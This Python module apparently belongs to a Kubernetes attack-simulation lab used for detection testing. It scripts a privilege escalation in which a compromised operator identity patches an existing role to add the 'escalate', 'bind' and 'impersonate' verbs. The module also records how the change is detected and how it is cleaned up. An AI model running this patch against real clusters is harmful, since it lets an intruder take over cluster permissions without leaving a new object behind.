"""Attack: existing role widened by bind, escalate and impersonate.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session

CARD = base.Card(
    id="escalate-role",
    title="Existing role widened by bind, escalate and impersonate",
    technique=base.Technique(id="T1098.006", name="Additional Container Cluster Roles", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Adds the verbs that lift RBAC's own limits to a role that exists already, in a patch of one rule, so "
        "that no new object appears."
    ),
    seen_by="A patch of a role grants escalate, bind and impersonate.",
    cleans_up="The role, made before the attack by the director, is deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("PATCH", paths.group(paths.RBAC, "roles", context.HOME, "a")))
    thief = ctx.act_as(victim)
    name = ctx.name("queue-reader")
    collection = paths.group(paths.RBAC, "roles", victim.namespace)
    ctx.ensure(
        collection,
        {
            "apiVersion": paths.RBAC,
            "kind": "Role",
            "metadata": {"name": name},
            "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}],
        },
    )
    yield thief.get(f"{collection}/{name}")
    rule = {
        "apiGroups": ["rbac.authorization.k8s.io", ""],
        "resources": ["roles", "rolebindings", "serviceaccounts"],
        "verbs": ["get", "escalate", "bind", "impersonate"],
    }
    yield thief.patch(
        f"{collection}/{name}", [{"op": "add", "path": "/rules/-", "value": rule}], content_type=session.JSON_PATCH
    )


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
